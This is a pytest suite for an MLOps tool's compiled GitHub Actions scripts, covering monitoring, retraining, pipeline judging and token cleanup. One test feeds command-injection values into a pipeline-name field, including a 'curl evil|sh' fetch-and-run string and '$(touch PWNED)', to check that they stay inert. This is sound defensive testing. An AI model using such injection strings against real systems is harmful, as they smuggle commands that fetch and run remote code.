"""The compiled scripts, run as GitHub runs them, with a recording stand-in for `mlops`."""

from __future__ import annotations

import hashlib
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from mlops.operations.reviewing.artifacts import digest
from tests.builders.repositories import commit
from tests.builders.scripts import JOBS, calls, fake, needs_jq, outputs, run, script
from tests.builders.workflows import jobs, project, workflows

pytestmark = pytest.mark.slow


@pytest.mark.parametrize(("code", "ends", "said"), [(0, 0, ""), (7, 0, ""), (2, 2, "::error"), (6, 6, "")])
def test_an_alarm_that_nobody_answers_for_and_a_monitor_that_cannot_look_fail(
    code: int, ends: int, said: str, tmp_path: Path
) -> None:
    fake(tmp_path, f"exit {code}")
    done = run(tmp_path, script("monitor/watch", "Monitor"), PIPELINES="fraud visits", INDEX="3")
    assert done.returncode == ends, done.stderr
    assert calls(tmp_path) == ["monitor fraud visits --asking asking.txt"]
    assert done.stdout.startswith(said)
    assert not (tmp_path / "output").exists()


def test_reports_that_ask_are_told_by_the_index_of_the_job(tmp_path: Path) -> None:
    fake(tmp_path, "printf 'fraud:%064d\\nvisits:%064d\\n' 1 2 > asking.txt")
    done = run(tmp_path, script("monitor/watch", "Monitor"), PIPELINES="fraud visits", INDEX="3")
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"asked": "true", "reports-3": f"fraud:{1:064d} visits:{2:064d}"}


@needs_jq
@pytest.mark.parametrize(("names", "count"), [([], 0), (["churn"], 1), ([f"p{n:04}" for n in range(1000)], 1000)])
def test_what_is_due_is_shared_out_over_the_jobs_there_are(names: list[str], count: int, tmp_path: Path) -> None:
    fake(tmp_path, f"""echo '{json.dumps({"schema_version": 1, "pipelines": names})}'""")
    done = run(tmp_path, script("monitor/due", "Find what is due"), SCHEDULE="6 22 * * 1")
    assert done.returncode == 0, done.stderr
    assert calls(tmp_path) == ["monitor --due 6 22 * * 1 -o json"]
    told = outputs(tmp_path)
    found = json.loads(told["batches"])
    assert told["count"] == str(count)
    assert len(found) == min(count, 32)
    assert [batch["index"] for batch in found] == list(range(len(found)))
    assert [name for batch in found for name in batch["pipelines"].split()] == names


def test_a_schedule_that_cannot_be_asked_about_ends_the_job(tmp_path: Path) -> None:
    fake(tmp_path, "exit 4")
    assert run(tmp_path, script("monitor/due", "Find what is due"), SCHEDULE="1 1 * * *").returncode == 4
    assert not (tmp_path / "output").exists()


def alarms(**digests: str) -> str:
    first, *rest = (f"{name}:{digest}" for name, digest in digests.items())
    told = {"reports-0": first, "reports-1": "", "reports-2": " ".join(rest)}
    needs: dict[str, Any] = {"watch": {"result": "success", "outputs": {"asked": "true", **told}}}
    return json.dumps(needs)


@needs_jq
def test_a_report_that_was_swapped_proposes_nothing_and_ends_with_5(tmp_path: Path) -> None:
    for name in ("churn", "visits"):
        (tmp_path / "monitoring" / name).mkdir(parents=True)
        (tmp_path / "monitoring" / name / "report.json").write_text(f'{{"pipeline": "{name}"}}')
    fake(tmp_path)
    good = hashlib.sha256(b'{"pipeline": "visits"}').hexdigest()
    needs = alarms(churn="0" * 64, visits=good, missing="1" * 64)
    done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=needs)
    assert done.returncode == 5
    assert calls(tmp_path) == ["retrain visits --cause monitoring/visits/report.json --propose"]
    assert "monitoring/churn/report.json is not the report that was made" in done.stdout
    assert "monitoring/missing/report.json is not the report that was made" in done.stdout


@needs_jq
def test_every_alarm_is_acted_on_even_where_one_fails(tmp_path: Path) -> None:
    digests = {}
    for name, place in (("churn", ""), ("visits", "production")):
        folder = tmp_path / "monitoring" / name / place
        folder.mkdir(parents=True)
        (folder / "report.json").write_text(name)
        digests[name] = hashlib.sha256(name.encode()).hexdigest()
    fake(tmp_path, 'case "$2" in churn) exit 6 ;; esac')
    done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=alarms(**digests))
    assert done.returncode == 6
    assert [call.split()[1:4] for call in calls(tmp_path)] == [
        ["churn", "--cause", "monitoring/churn/report.json"],
        ["visits", "--cause", "monitoring/visits/production/report.json"],
    ]


def brought(folder: Path, path: str, plan: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    """Find what a change affects that brings a file, with a plan that says so much."""
    (folder / "pipelines/gone/reports").mkdir(parents=True)
    (folder / "pipelines/gone/reports/gate.json").write_text("{}")
    base = commit(folder, "base")
    (folder / "pipelines/gone/reports/gate.json").unlink()
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text("{}")
    commit(folder, "change")
    fake(folder, f"echo '{json.dumps(plan)}'")
    return run(folder, script("pr/affected", "Find the affected pipelines"), BASE=base)


@needs_jq
@pytest.mark.parametrize("path", ["pipelines/churn/dvc.lock", "pipelines/churn/reports/plots/a b.csv"])
def test_a_lock_or_report_that_the_plan_does_not_answer_for_is_no_skip(path: str, tmp_path: Path) -> None:
    done = brought(tmp_path, path, {"affected": ["visits"], "recorded": []})
    assert done.returncode == 5
    said = "::error title=churn is not judged::its lock or a report changes, and the plan does not affect it\n"
    assert done.stdout == said
    assert not (tmp_path / "output").exists()


@needs_jq
def test_the_batches_say_what_is_verified_before_it_runs(tmp_path: Path) -> None:
    plan = {"affected": ["churn", "visits"], "verified": ["churn"], "recorded": ["churn"]}
    done = brought(tmp_path, "pipelines/churn/dvc.lock", plan)
    assert done.returncode == 0, done.stderr
    found = json.loads(outputs(tmp_path)["batches"])
    assert [(batch["pipelines"], batch["recorded"]) for batch in found] == [("churn", "churn"), ("visits", "")]


# a batch of nothing: its judge sees that there was nothing to judge
NONE = '[{"name":"none","pipelines":"","index":0}]'


@needs_jq
def test_a_change_that_brings_no_record_has_nothing_to_answer_for(tmp_path: Path) -> None:
    done = brought(tmp_path, "docs/dvc.lock", {"affected": []})
    assert (done.returncode, outputs(tmp_path)) == (
        0,
        {"count": "0", "batches": NONE} | digest_told(tmp_path),
    )


def digest_told(folder: Path) -> dict[str, str]:
    return {"digest": hashlib.sha256((folder / "plan.json").read_bytes()).hexdigest()}


@pytest.mark.parametrize(
    ("recorded", "expected"), [("churn", ["verify churn"]), ("visits", ["run churn"]), ("", ["run churn"])]
)
def test_a_record_that_contradicts_itself_is_not_made_again(recorded: str, expected: list[str], tmp_path: Path) -> None:
    fake(tmp_path, '[ "$1" != verify ] || exit 5')
    done = run(tmp_path, script("pr/pipeline", "Run"), PIPELINES="churn", RECORDED=recorded)
    assert calls(tmp_path) == expected
    code = (tmp_path / "evidence/churn/exit-code").read_text()
    assert (done.returncode, code) == ((5, "5\n") if recorded == "churn" else (0, "0\n"))


@pytest.mark.parametrize("body", ["", '[ "$1" = verify ] || echo 2 > "pipelines/$2/dvc.lock"'])
def test_a_record_that_agrees_is_taken_as_it_is_and_what_is_missing_made(body: str, tmp_path: Path) -> None:
    for name in ("churn", "visits"):
        (tmp_path / "pipelines" / name).mkdir(parents=True)
        (tmp_path / "pipelines" / name / "dvc.lock").write_text("1\n")
    commit(tmp_path)
    fake(tmp_path, body)
    done = run(tmp_path, script("pr/pipeline", "Run"), PIPELINES="churn visits", RECORDED="visits")
    assert done.returncode == 0, done.stderr
    assert calls(tmp_path) == ["run churn", "verify visits", "run visits"]
    said = (
        "::warning title=visits came out otherwise than it is recorded::it was made again here: compare the two locks"
    )
    assert done.stdout.splitlines() == ([said] if body else [])


ASKED = {
    ("rollback/rollback", "Propose the bundle before"): "rollback --env prod --propose -- ",
    ("retrain/retrain", "Is there such a pipeline?"): "render -- ",
    ("retrain/retrain", "Look at what was served"): "monitor -- ",
    ("retrain/retrain", "Propose a retraining"): "retrain --propose -- ",
}


@pytest.mark.parametrize("asked", ASKED)
@pytest.mark.parametrize("typed", ['x";curl${IFS}evil|sh;"', "$(touch PWNED)", "*", "a b", "--help", "../churn"])
def test_what_was_typed_reaches_a_verb_as_one_word_that_is_no_option(
    asked: tuple[str, str], typed: str, tmp_path: Path
) -> None:
    fake(tmp_path, 'echo "$#" > words')
    run(tmp_path, script(*asked), PIPELINES=typed, ENVIRONMENT="prod")
    assert calls(tmp_path) == [f"{ASKED[asked]}{typed}"]
    assert (tmp_path / "words").read_text() == f"{len(ASKED[asked].split()) + 1}\n"
    assert not (tmp_path / "PWNED").exists()


def test_the_name_is_known_before_any_other_step_sees_it() -> None:
    steps = [step for step in JOBS["retrain/retrain"]["steps"] if "PIPELINES" in step.get("env", {})]
    assert steps[0]["name"] == "Is there such a pipeline?"


WAYS = {"Fetch": "monitor/watch", "Monitor": "monitor/watch", "Reconcile": "release/reconcile-prod"}


@pytest.mark.parametrize("name", WAYS)
@pytest.mark.parametrize("code", [0, 3])
def test_what_a_step_signs_in_with_is_gone_when_it_ends_however_it_ends(name: str, code: int, tmp_path: Path) -> None:
    found = jobs(workflows(project("aws")))[WAYS[name]]["steps"]
    (text,) = [step["run"] for step in found if step["name"] == name]
    fake(tmp_path, f'if [ "$1" = identity ]; then mkdir "$3"; touch "$3/token"; else ls id >> seen; exit {code}; fi')
    said = f'[ "$1" != remote ] || {{ echo storage; exit 0; }}; ls id >> seen; exit {code}'
    (tmp_path / ".venv/bin/dvc").write_text(f"#!/bin/sh\n{said}\n")
    (tmp_path / ".venv/bin/dvc").chmod(0o755)
    done = run(tmp_path, text, IDENTITY=str(tmp_path / "id"), PIPELINES="churn", INDEX="0")
    assert done.returncode == code, done.stderr
    assert (tmp_path / "seen").read_text() == "token\n"
    assert not (tmp_path / "id").exists()
    left = text.replace("trap", "# trap")
    run(tmp_path, left, IDENTITY=str(tmp_path / "id"), PIPELINES="churn", INDEX="0")
    assert (tmp_path / "id/token").exists(), "without the guard the next step finds it"


@pytest.mark.parametrize("code", [0, 2, 5])
def test_the_judge_tells_the_digest_of_its_verdicts_however_it_ends(code: int, tmp_path: Path) -> None:
    fake(tmp_path, f"mkdir -p evidence/churn && echo '{{}}' > evidence/churn/judged.json && exit {code}")
    told = {"PIPELINES": "churn", "INDEX": "3", "JUDGE": ".venv/bin/mlops"}
    done = run(tmp_path, script("pr/judge", "Judge"), GITHUB_STEP_SUMMARY=str(tmp_path / "summary"), **told)
    assert done.returncode == code, done.stderr
    assert calls(tmp_path) == ["judge churn --change change --evidence left --record evidence -o md"]
    assert outputs(tmp_path) == {"verdict-3": digest(tmp_path / "evidence")}


def test_a_base_that_knows_no_judge_ends_with_7(tmp_path: Path) -> None:
    fake(tmp_path, '[ "$1" != judge ]')
    done = run(tmp_path, script("pr/judge", "Put the change in its place"))
    said = "::error title=The base cannot judge::its release of mlops has no verb judge: merge an upgrade first\n"
    assert (done.returncode, done.stdout) == (7, said)


def test_what_the_base_appoints_is_what_judges(tmp_path: Path) -> None:
    fake(tmp_path, "echo base")
    done = run(tmp_path, script("pr/judge", "Appoint who judges"))
    assert (done.returncode, outputs(tmp_path)) == (0, {"judge": ".venv/bin/mlops"}), done.stderr
    assert calls(tmp_path) == ["judge --change change --who"]
